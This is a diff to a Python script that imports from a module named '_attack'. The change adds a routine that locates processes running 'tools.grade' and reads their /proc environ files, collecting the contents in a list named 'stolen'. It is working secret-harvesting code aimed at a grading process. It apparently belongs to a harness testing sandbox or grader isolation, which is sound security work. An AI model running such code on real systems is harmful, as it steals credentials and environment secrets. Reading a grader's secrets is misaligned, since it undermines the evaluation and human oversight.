@@ -6,8 +6,19 @@ import sys
 
 from _attack import planted, serve
 
+
+def grader_environments():
+    """/proc/<pid>/environ of the grader's processes (their command line names tools.grade)."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if b"tools.grade" in open("/proc/%s/cmdline" % pid, "rb").read():
+                yield "/proc/%s/environ" % pid
+        except OSError:
+            pass
+
+
 stolen = []
-for path in planted("targets.txt").split("\n") + ["/proc/1/environ", "/proc/%d/environ" % os.getppid()]:
+for path in planted("targets.txt").split("\n") + list(grader_environments()):
     try:
         with open(path, "rb") as fh:
             stolen.append(fh.read(200))
